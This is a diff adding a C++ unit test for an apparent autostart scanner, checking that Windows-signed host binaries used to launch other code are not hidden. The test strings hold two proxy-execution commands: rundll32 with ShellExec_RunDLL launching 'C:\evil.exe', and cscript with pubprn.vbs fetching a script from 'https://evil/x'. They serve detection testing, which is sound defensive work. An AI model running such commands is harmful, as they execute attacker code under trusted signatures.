@@ -74,6 +74,20 @@ TEST_F(Publisher, AWindowsHostGivenSomethingToRunIsNeverHidden)
     MemAddFile(host, "MZ");
     MemSetSignature(host, PLAT_TRUST_VERIFIED, WINDOWS_SIGNER, true);
     EXPECT_EQ(1, ItemHiddenAsWindows(&ScanOf({host}), 1)) << "the bare host is Windows' own";
+    // The target shown is Windows' own file named in the host's arguments.
+    const char *dll = "C:\\Windows\\System32\\shell32.dll";
+    const char *script = "C:\\Windows\\System32\\pubprn.vbs";
+    for (const char *file : {dll, script}) {
+        MemAddFile(file, "MZ");
+        MemSetSignature(file, PLAT_TRUST_VERIFIED, WINDOWS_SIGNER, true);
+    }
+    std::string viaDll = std::string("rundll32.exe \"") + dll + "\",ShellExec_RunDLL C:\\evil.exe";
+    std::string viaScript = std::string("cscript.exe /b \"") + script + "\" x script:https://evil/x";
+    for (const std::string &command : {viaDll, viaScript}) {
+        AutostartItem item = ScanOf({command.c_str()});
+        EXPECT_TRUE(item.signedByWindows) << item.target;
+        EXPECT_EQ(0, ItemHiddenAsWindows(&item, 1)) << command;
+    }
 }
 
 TEST_F(Publisher, UnsignedMissingNetworkAndUncheckableTargets)
